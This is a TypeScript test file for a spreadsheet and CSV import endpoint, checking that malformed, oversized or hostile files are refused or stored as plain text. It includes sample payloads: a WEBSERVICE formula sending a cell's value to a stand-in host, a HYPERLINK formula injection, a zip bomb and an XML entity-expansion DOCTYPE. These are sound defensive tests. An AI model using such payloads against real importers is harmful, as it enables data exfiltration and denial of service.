import { Readable } from 'node:stream'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { listUnits } from '#contract/organisation.ts'
import { type Agency, agency, type House, openHouse } from '../../setup/house.ts'
import type { Page } from '../../setup/page.ts'
import { administrator } from '../administrator.ts'
import { csv, sendSheet, unitHeadings, unitLine, xlsx } from './sheets.ts'
import { unzip, zip } from './zip.ts'

let house: House
let province: Agency
let local: Page
const ask = () => ({ dryRun: false, under: province.id })

beforeAll(async () => {
  house = await openHouse()
  province = await agency(house, 'Ủy ban nhân dân tỉnh Thử', 'UBND', 'H98')
  local = (await administrator(house, 'quantri.tinh', province.id)).page
})
afterAll(async () => {
  const below = (await local.call(listUnits, { parentId: province.id })).rows.map((row) => row.name).toSorted()
  expect(below).toEqual(['<b>Phòng</b>', '=HYPERLINK("http://xau","Phòng")', 'Phòng NUL', 'Phòng Thật'].toSorted())
  expect(house.errors).toEqual([])
  await house.close()
})

const right = () => xlsx({ 'Đơn vị': [unitHeadings, unitLine('1', '', 'Phòng Thật', 'PT')] })

/** The right workbook with one of its parts changed. */
async function tampered(part: RegExp, change: (xml: string) => string): Promise<Buffer> {
  const parts = unzip(await right())
  return zip(
    parts.map((it) => (part.test(it.name) ? { ...it, content: Buffer.from(change(it.content.toString())) } : it)),
  )
}

describe('a file that is not what it should be', () => {
  it('is refused as unreadable or empty, beside one that is taken', async () => {
    expect(await sendSheet(local, await right(), ask())).toMatchObject({ status: 200 })
    expect(await sendSheet(local, Buffer.alloc(0), ask())).toMatchObject({ status: 400, wire: { code: 'file.empty' } })
    const whole = await right()
    const broken: Record<string, Buffer> = {
      words: Buffer.from('đây không phải bảng tính'),
      'only a mark': Buffer.from('\ufeff'),
      blanks: Buffer.from(' \r\n ;;; \r\n'),
      'zip that is none': Buffer.from('PK\u0003\u0004 và rác'),
      'cut zip': whole.subarray(0, whole.length - 40),
      'zip behind rubbish': Buffer.concat([Buffer.from('PKrác'), whole]),
      'zip without sheets': zip([{ name: 'a.txt', content: Buffer.from('xin chào') }]),
      'two bytes': Buffer.from('PK'),
      'not UTF-8': Buffer.from([0xff, 0xfe, 0x41, 0x00, 0x42, 0x00]),
      image: Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
      'open quote': Buffer.concat([csv([unitHeadings]), Buffer.from('\r\n"a')]),
      'XML that ends early': await tampered(/sheet1\.xml$/, (xml) => xml.slice(0, xml.length / 2)),
    }
    for (const [name, bytes] of Object.entries(broken))
      expect(await sendSheet(local, bytes, ask()), name).toMatchObject({
        status: 400,
        wire: { code: 'import.unreadable' },
      })
  })

  it('is refused when it is too large, however it is packed', async () => {
    const large = await sendSheet(local, Buffer.alloc(20 * 1024 * 1024 + 1, 'a'), ask())
    expect(large).toMatchObject({ status: 413, wire: { code: 'file.too-large', facts: { limit: 20 * 1024 * 1024 } } })
    const bomb = zip([{ name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(200 * 1024 * 1024, ' '), said: 100 }])
    expect(bomb.length).toBeLessThan(1024 * 1024)
    expect(await sendSheet(local, bomb, ask())).toMatchObject({ status: 413, wire: { code: 'file.too-large' } })
  })

  it('is refused when it has more lines than may be imported, also as a spreadsheet', async () => {
    const many = csv([unitHeadings, ...Array.from({ length: 50_100 }, (_, n) => [`r${n}`])])
    expect((await sendSheet(local, many, { ...ask(), dryRun: true })).report?.problems).toMatchObject([
      { line: 50_001, problem: 'too-many-lines' },
    ])
    const rows = Array.from(
      { length: 50_100 },
      (_, n) => `<row r="${n + 2}"><c t="inlineStr"><is><t>a</t></is></c></row>`,
    ).join('')
    const sheet = await tampered(/sheet1\.xml$/, (xml) => xml.replace('</sheetData>', `${rows}</sheetData>`))
    expect(await sendSheet(local, sheet, ask())).toMatchObject({ status: 400, wire: { code: 'import.invalid' } })
  })
})

describe('a spreadsheet that means harm', () => {
  it('may have a heading of any size', async () => {
    const wide = [...unitHeadings, ...Array.from({ length: 16_000 }, (_, n) => `Cột ${n}`)]
    const tried = await sendSheet(local, csv([wide, unitLine('1', '', 'Phòng', 'P')]), { ...ask(), dryRun: true })
    expect(tried.report?.problems.map((it) => it.problem)).toContain('unknown-column')
    const long = csv([[...unitHeadings, 'x'.repeat(1_000_000)], unitLine('1', '', 'Phòng', 'P')])
    expect(await sendSheet(local, long, ask())).toMatchObject({ status: 400, wire: { code: 'import.unreadable' } })
    const cell = await xlsx({ A: [[...unitHeadings, 'x'.repeat(30_000)], unitLine('1', '', 'Phòng', 'P')] })
    const [problem] = (await sendSheet(local, cell, { ...ask(), dryRun: true })).report?.problems ?? []
    expect(problem?.problem).toBe('unknown-column')
    expect(problem?.value.length).toBeLessThanOrEqual(100)
  })

  it('may not hide a name behind a formula', async () => {
    const [rowCode = '', parent = '', nature = '', ...rest] = unitLine('1', '', 'x', 'P')
    const [kind = '', level = '', , ...after] = rest
    const line = [
      rowCode,
      parent,
      nature,
      kind,
      level,
      { formula: 'WEBSERVICE("http://xau/"&A1)', result: 'Phòng' },
      ...after,
    ]
    const tried = await sendSheet(local, await xlsx({ A: [unitHeadings, line] }), { ...ask(), dryRun: true })
    expect(tried.report?.problems).toMatchObject([{ line: 2, column: 'Tên', problem: 'formula' }])
  })

  it('stores what looks like a formula or markup as the text it is', async () => {
    const names = ['=HYPERLINK("http://xau","Phòng")', '<b>Phòng</b>', 'Phòng\u0001NUL']
    const file = csv([unitHeadings, ...names.map((name, n) => unitLine(`r${n}`, '', name, 'P'))])
    expect((await sendSheet(local, file, ask())).report).toMatchObject({ units: 3 })
    for (const q of ['HYPERLINK', '<b>', 'phong nul'])
      expect((await local.call(listUnits, { q })).rows, q).toHaveLength(1)
  })

  it('does not hold the server with ranges over the whole sheet', async () => {
    const whole = 'A1:XFD1048576'
    const sheet = await tampered(/sheet1\.xml$/, (xml) =>
      xml.replace(
        '</sheetData>',
        `</sheetData><mergeCells count="1"><mergeCell ref="${whole}"/></mergeCells><dataValidations count="1"><dataValidation type="list" sqref="${whole}"><formula1>"a"</formula1></dataValidation></dataValidations>`,
      ),
    )
    const tried = await sendSheet(local, sheet, { ...ask(), dryRun: true })
    expect(tried.report?.problems).toMatchObject([{ column: 'Tên', problem: 'duplicate' }])
  })

  it('does not expand entities of its own', async () => {
    const sheet = await tampered(/sheet1\.xml$/, (xml) =>
      xml
        .replace(/<worksheet/, '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><worksheet')
        .replace('</sheetData>', '<row r="9"><c t="inlineStr"><is><t>&b;</t></is></c></row></sheetData>'),
    )
    const answer = await sendSheet(local, sheet, { ...ask(), dryRun: true })
    expect(JSON.stringify(answer)).not.toContain('aaaaaaaaaa')
  })

  it('that breaks off on the way writes nothing and harms nobody', async () => {
    const broken = Readable.from(
      (async function* () {
        yield Buffer.from('Mã dòng')
        throw new Error('broke off')
      })(),
    )
    const url = `${house.address}/api/organisation/import?dryRun=false&under=${province.id}`
    const init = {
      method: 'POST',
      headers: { cookie: local.cookie, 'x-csrf': local.csrf },
      body: Readable.toWeb(broken),
      duplex: 'half',
    }
    await expect(fetch(url, init as unknown as RequestInit)).rejects.toThrow()
    const book = new ExcelJS.Workbook()
    book.addWorksheet('Đơn vị').addRow(unitHeadings)
    expect(await sendSheet(local, Buffer.from(await book.xlsx.writeBuffer()), ask())).toMatchObject({
      wire: { code: 'import.unreadable' },
    })
  })
})
